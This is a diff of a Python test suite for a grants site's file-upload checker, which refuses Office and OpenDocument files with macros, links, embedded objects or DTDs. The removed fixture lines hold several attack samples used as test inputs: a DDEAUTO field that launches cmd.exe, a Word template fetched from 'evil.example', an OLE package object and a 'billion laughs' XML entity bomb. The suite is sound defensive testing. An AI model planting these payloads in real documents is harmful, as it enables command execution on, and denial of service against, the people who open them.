@@ -22,9 +22,11 @@ from grants.uploads import UploadRefused, check_upload, safe_display_name
 from tests.factories import ApplicationFactory
 from tests.helpers import error_messages, page, post
 from tests.office_files import (
-    DOCUMENT_XML, DOCX_TYPES, ODF_NAMESPACES, OLE_FILE, WORD_NAMESPACES, W, cell_formula, docx_bytes, field, field_runs,
-    frame, header, inserting, link_to_workbook, name_formula, odt_bytes, odt_file, ole_object_runs, paragraph,
-    relationships, repack, word_file, workbook_file, xlsx_bytes, xlsx_with, zip_bytes,
+    DDE_CODE, DOCUMENT_XML, DOCX_TYPES, LAUGHS, ODF_NAMESPACES, OLE_FILE, OLE_OBJECTS, OLE_TYPE, SPREADSHEET,
+    WORD_NAMESPACES, W, attached_template, cell_formula, docx_bytes, field, field_runs, frame, header, inserting,
+    link_to_workbook, name_formula, odt_bytes, odt_file, ole_object_runs, paragraph, relationships, repack, word_file,
+    word_with_chart, word_with_ole_object, workbook_file, workbook_with_links_and_formulas, xlsx_bytes, xlsx_with,
+    zip_bytes,
 )
 
 # Builders ----------------------------------------------------------------------------------------
@@ -185,32 +187,6 @@ def test_macros_are_refused(filename, build):
 LINKS = "The selected file links to other files. Save it without the links and try again"
 DDE = "The selected file contains fields or formulas that start other programs. Save it without them and try again"
 EMBEDDED = "The selected file contains embedded objects. Save it without them and try again"
-DDE_CODE = ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '
-SPREADSHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
-OLE_OBJECTS = (
-    b'<oleObjects><oleObject xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
-    b'progId="Package" shapeId="1025" r:id="rId100"/></oleObjects>'
-)
-OLE_TYPE = '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
-
-
-def attached_template(mode: str = "External") -> bytes:
-    settings_xml = f'<w:settings {WORD_NAMESPACES}><w:attachedTemplate r:id="rId100"/></w:settings>'.encode()
-    return word_file(parts=(
-        ("word/settings.xml", settings_xml),
-        ("word/_rels/settings.xml.rels", relationships(("attachedTemplate", "https://evil.example/t.dotm", mode))),
-    ))
-
-
-def word_with_ole_object() -> bytes:
-    return word_file(
-        f"<w:p>{ole_object_runs()}</w:p>",
-        rels=(("oleObject", "embeddings/oleObject1.bin"), ("image", "media/image1.emf")),
-        parts=(("word/embeddings/oleObject1.bin", OLE_FILE), ("word/media/image1.emf", b"\x01\x00\x00\x00")),
-        types=OLE_TYPE + '<Default Extension="emf" ContentType="image/x-emf"/>',
-    )
-
-
 @pytest.mark.parametrize(
     ("filename", "build"),
     [
@@ -323,36 +299,6 @@ def test_disguised_links_and_commands_are_found(filename, build, message):
     assert refusal(filename, build()) == message
 
 
-CHART = (
-    '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
-    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><c:chart><c:plotArea><c:barChart>'
-    "<c:ser><c:val><c:numRef><c:f>Sheet1!$B$2:$B$5</c:f></c:numRef></c:val></c:ser></c:barChart></c:plotArea>"
-    '</c:chart><c:externalData r:id="rId100"/></c:chartSpace>'
-).encode()
-
-
-def word_with_chart() -> bytes:
-    """A chart keeps its figures in an embedded workbook: an object, but not an OLE one."""
-    return word_file(
-        '<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/'
-        'drawingml/2006/chart"><c:chart r:id="rId100"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>',
-        rels=(("chart", "charts/chart1.xml"),),
-        parts=(("word/charts/chart1.xml", CHART),
-               ("word/charts/_rels/chart1.xml.rels", relationships(("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx"))),
-               ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", xlsx_bytes())),
-        types='<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>'
-              '<Override PartName="/word/charts/chart1.xml" '
-              'ContentType="application/vnd.openxmlformats-officedocument.drawingml.chart+xml"/>',
-    )
-
-
-def workbook_with_links_and_formulas(workbook) -> None:
-    workbook.active["A3"] = "GOV.UK"
-    workbook.active["A3"].hyperlink = "https://www.gov.uk/"
-    cell_formula('=IF(A1="a|b",1,0)', "=SUM('Q1 | Q2'!B1:B3)", "=VLOOKUP(A1,Table1[[#All],[Item]],2,FALSE)",
-                 sheet="Q1 | Q2")(workbook)
-
-
 @pytest.mark.parametrize(
     ("filename", "build"),
     [
@@ -378,10 +324,6 @@ def test_hyperlinks_charts_and_ordinary_fields_are_accepted(filename, build):
     assert check_upload(filename, build()).file_type == filename.rpartition(".")[2]
 
 
-LAUGHS = b'<!DOCTYPE worksheet [<!ENTITY a "ha">' + b"".join(
-    b'<!ENTITY %c "%s">' % (ord("b") + n, (b"&%c;" % (ord("a") + n)) * 10) for n in range(8)) + b"]>"
-
-
 @pytest.mark.parametrize(
     ("filename", "build"),
     [
@@ -398,6 +340,12 @@ LAUGHS = b'<!DOCTYPE worksheet [<!ENTITY a "ha">' + b"".join(
 def test_xml_declaring_a_document_type_is_refused_unread(filename, build):
     """No Office or OpenDocument part declares one; entities, local files and fetched DTDs need one."""
     assert refusal(filename, build()) == uploads.UNREADABLE
+
+
+def test_a_formula_longer_than_excel_allows_is_refused_unread():
+    too_long = repack(workbook_file(cell_formula("=1")), change={  # 18,000 characters, partly spelt in references
+        "xl/worksheets/sheet1.xml": lambda body: body.replace(b"<f>1</f>", b"<f>" + b"1+&#49;" * 6000 + b"</f>")})
+    assert refusal("budget.xlsx", too_long) == uploads.UNREADABLE
 
 
 @pytest.mark.parametrize(
